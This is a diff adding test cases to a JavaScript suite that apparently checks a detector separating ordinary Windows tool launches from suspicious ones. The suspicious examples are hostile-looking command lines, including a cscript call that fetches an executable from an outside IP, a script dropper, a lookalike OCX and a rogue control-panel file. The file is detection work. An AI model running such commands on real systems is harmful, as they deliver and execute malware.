@@ -41,6 +41,9 @@ describe('what install guides, batch files and own tools do is no deviation by i
     'msconfig.exe ¦ msconfig.exe -4 ¦ explorer.exe',
     String.raw`wab.exe ¦ "C:\Program Files\Windows Mail\wab.exe" /contact "C:\Users\ann\Downloads\bob.vcf" ¦ explorer.exe`,
     'rundll32.exe ¦ rundll32.exe tsworkspace.dll,WorkspaceStatusNotify2 ¦ explorer.exe',
+    String.raw`cscript.exe ¦ cscript //nologo "C:\Program Files\Vendor\fetch.vbs" /url:https://vendor.example/a.xml ¦ services.exe ¦ SYSTEM`,
+    String.raw`cscript.exe ¦ cscript //nologo "C:\Program Files\Vendor\inventory.vbe" ¦ services.exe ¦ SYSTEM`,
+    'regsvr32.exe ¦ regsvr32 MSCOMCTL.OCX ¦ cmd.exe',
     String.raw`wscript.exe ¦ wscript.exe //B "C:\Users\ann\projects\bot\hidden.vbs" ¦ ${TASK}`,
     String.raw`cscript.exe ¦ cscript //E:JScript //nologo "C:\tools\sort.bat" /i ¦ cmd.exe`,
     String.raw`hh.exe ¦ "C:\Windows\hh.exe" "C:\Users\ann\Documents\manuals\plc.chm" ¦ explorer.exe`,
@@ -76,6 +79,15 @@ describe('what install guides, batch files and own tools do is no deviation by i
 
 describe('and what looks like it stays one', () => {
   test.each([
+    String.raw`wscript.exe ¦ "C:\Windows\System32\WScript.exe" "C:\Users\ann\Desktop\708.js" ¦ -`,
+    String.raw`cscript.exe ¦ cscript .\drop.vbe ¦ cmd.exe`,
+    String.raw`cscript.exe ¦ cscript C:\Windows\System32\manage-bde.wsf ¦ cmd.exe`,
+    String.raw`cscript.exe ¦ cscript C:\Users\ann\AppData\Local\Temp\get.vbs http://203.0.113.7/a.exe ¦ cmd.exe`,
+    'regsvr32.exe ¦ regsvr32 MSCOMCTLS.OCX ¦ cmd.exe',
+    'rundll32.exe ¦ rundll32.exe shell32.dll,SHCreateLocalServerRunDll {c08afd90-f2a1-11d1-8455-00a0c91f3880} -Embedding ¦ svchost.exe',
+    String.raw`control.exe ¦ control.exe C:\Users\ann\Desktop\calc.cpl ¦ -`,
+    String.raw`msiexec.exe ¦ msiexec.exe /i "C:\Users\ann\Downloads\4f50d6a520db0bcf43ebd8d5fda0245b9a74c788164c99a9236f4f11465a37af.msi" ¦ explorer.exe`,
+    String.raw`rundll32.exe ¦ rundll32.exe "C:\Program Files\Vendor\a.dll",StartW ¦ powershell.exe`,
     String.raw`rundll32.exe ¦ rundll32.exe ieframe.dll,OpenURL C:\Users\ann\Favorites\Orders 0707.exe ¦ cmd.exe`,
     String.raw`verclsid.exe ¦ "C:\Windows\system32\verclsid.exe" /S /C {06290BD2-48AA-11D2-8432-006008C3FBFC} /I {00000112-0000-0000-C000-000000000046} /X 0x5 ¦ winword.exe`,
     String.raw`rundll32.exe ¦ C:\Windows\system32\rundll32.exe C:\ProgramData\HP\hpmsn140.dll,MonitorPrintJobStatus /pjob=12 ¦ winword.exe`,
